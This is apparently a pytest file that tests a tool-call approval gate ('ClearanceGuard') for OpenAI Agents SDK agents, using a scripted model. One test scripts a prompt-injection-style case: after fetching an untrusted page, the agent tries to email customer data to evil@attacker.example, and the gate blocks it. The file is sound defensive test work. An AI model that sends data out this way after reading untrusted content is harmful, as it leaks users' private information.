"""ClearanceGuard in the OpenAI Agents SDK's real ``Runner`` loop with a scripted model.

The model is the SDK's own ``agents.testing.ScriptedModel`` (its ``Model`` interface,
scripted output items, no network); the agent loop, tool planning, ``needs_approval``
interruptions, tool input guardrails and ``RunState`` approvals are the SDK's.
"""

from __future__ import annotations

import asyncio
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from agents import Agent, FunctionTool, RunConfig, Runner, function_tool
from agents.testing import ScriptedModel, assistant_message, function_call

from clearance._internal.gate.core import Gate
from clearance.integrations.openai_agents import ClearanceGuard

from .framework_support import (
    APPROVER,
    TASK,
    ToolEffects,
    decisions,
    executed,
    governed_gate,
    traces,
)


class Effects(ToolEffects):
    """The scenario's tools as Agents SDK function tools."""

    def tools(self) -> list[FunctionTool]:
        return [function_tool(function) for function in self.functions()]


@pytest.fixture
def gate(tmp_path: Path) -> Iterator[Gate]:
    yield from governed_gate(tmp_path)


def turn(name: str, call_id: str, **args: Any) -> list[Any]:
    return [function_call(name, args, call_id=call_id)]


DONE = [assistant_message("done")]


def agent(guard: ClearanceGuard, effects: Effects, model: ScriptedModel) -> Agent[Any]:
    return Agent(name="support", model=model, tools=list(guard.govern(effects.tools())))


def run(gate: Gate, agent: Agent[Any], given: Any = TASK) -> Any:
    async def go() -> Any:
        with gate.trace(TASK):
            # No trace export: the tests make no network call.
            return await Runner.run(agent, given, run_config=RunConfig(tracing_disabled=True))

    return asyncio.run(go())


def shown_to_model(model: ScriptedModel) -> str:
    return str(model.calls[-1].input)


def test_an_allowed_tool_runs_governed_in_the_task_trace(gate: Gate) -> None:
    effects, guard = Effects(), ClearanceGuard(gate)
    model = ScriptedModel([turn("lookup_order", "c1", order_id=42), DONE])
    result = run(gate, agent(guard, effects, model))

    assert result.final_output == "done"
    assert effects.ran == [("lookup_order", {"order_id": 42})]
    assert decisions(gate) == [("lookup_order", "allow")]
    assert len(executed(gate)) == 1
    assert traces(gate)[0]["mandate"]["text"] == TASK
    assert "order 42: arrived broken" in shown_to_model(model)


def test_a_denied_tool_never_runs_and_the_guardrail_tells_the_model_why(gate: Gate) -> None:
    effects, guard = Effects(), ClearanceGuard(gate)
    model = ScriptedModel([turn("delete_records", "c1", table="orders"), DONE])
    run(gate, agent(guard, effects, model))

    assert effects.ran == []
    assert decisions(gate) == [("delete_records", "deny")]
    assert executed(gate) == []
    assert "no-deletes: Agents never delete records" in shown_to_model(model)


def test_an_untrusted_page_taints_the_trace_and_blocks_a_later_mail(gate: Gate) -> None:
    effects, guard = Effects(), ClearanceGuard(gate)
    model = ScriptedModel(
        [
            turn("fetch_page", "c1", url="https://shop.example/faq"),
            turn("send_email", "c2", to="evil@attacker.example", body="customers"),
            DONE,
        ]
    )
    run(gate, agent(guard, effects, model))

    assert [name for name, _ in effects.ran] == ["fetch_page"]
    assert decisions(gate) == [("fetch_page", "allow"), ("send_email", "deny")]
    assert "no-mail-after-untrusted-input" in shown_to_model(model)


def test_needs_approval_interrupts_and_a_clearance_approval_runs_the_tool_once(
    gate: Gate,
) -> None:
    effects, guard = Effects(), ClearanceGuard(gate)
    model = ScriptedModel([turn("refund", "c1", order_id=42, amount=30.0), DONE])
    governed = agent(guard, effects, model)
    first = run(gate, governed)

    [item] = first.interruptions
    assert item.name == "refund"
    assert effects.ran == []
    [(action, effect)] = decisions(gate)
    assert (action, effect) == ("refund", "approval_required")
    [pending] = gate.approvals("pending")

    # Nobody decided yet: resolving leaves the call interrupted.
    still = run(gate, governed, asyncio.run(guard.resolve(first)))
    assert [i.name for i in still.interruptions] == ["refund"]
    assert effects.ran == []

    gate.approve(pending.approval_id, approver=APPROVER, reason="photo of the broken item")
    result = run(gate, governed, asyncio.run(guard.resolve(still)))

    assert result.final_output == "done"
    assert effects.ran == [("refund", {"order_id": 42, "amount": 30.0})]
    assert len(executed(gate)) == 1
    assert gate.approval(pending.approval_id).status == "collected"


def test_an_sdk_approval_without_clearance_approval_does_not_run_the_tool(gate: Gate) -> None:
    effects, guard = Effects(), ClearanceGuard(gate)
    model = ScriptedModel([turn("refund", "c1", order_id=42, amount=30.0), DONE])
    governed = agent(guard, effects, model)
    first = run(gate, governed)

    state = first.to_state()
    state.approve(first.interruptions[0])  # the application approves; clearance did not
    run(gate, governed, state)

    assert effects.ran == []
    assert executed(gate) == []
    assert "pending; it did not run" in shown_to_model(model)


def test_a_denied_approval_is_rejected_with_the_reason(gate: Gate) -> None:
    effects, guard = Effects(), ClearanceGuard(gate)
    model = ScriptedModel([turn("refund", "c1", order_id=42, amount=30.0), DONE])
    governed = agent(guard, effects, model)
    first = run(gate, governed)
    [pending] = gate.approvals("pending")

    gate.deny(pending.approval_id, approver=APPROVER, reason="no photo")
    run(gate, governed, asyncio.run(guard.resolve(first)))

    assert effects.ran == []
    assert executed(gate) == []
    assert "denied; it did not run" in shown_to_model(model)
